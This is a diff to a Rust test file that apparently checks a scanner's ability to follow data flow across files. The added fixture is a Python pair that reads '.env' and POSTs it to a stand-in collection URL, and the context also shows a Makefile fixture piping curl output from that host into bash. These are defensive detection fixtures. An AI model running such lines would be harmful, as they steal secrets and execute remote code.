@@ -539,6 +539,13 @@ fn what_a_file_says_is_followed_into_the_file_that_runs_or_sends_it() {
             ("b.ts", "export const U='https://collect.brightpath.site/in';\n"),
         ],
         &[
+            (
+                "a.py",
+                "from b import to\nimport requests\nrequests.post(to, data=open('.env').read())\n",
+            ),
+            ("b.py", "to = 'https://collect.brightpath.site/in'\n"),
+        ],
+        &[
             ("Makefile", "include conf.mk\nall:\n\t$(GET) | $(RUN)\n"),
             ("conf.mk", "GET=curl -s https://collect.brightpath.site/in\nRUN=bash\n"),
         ],
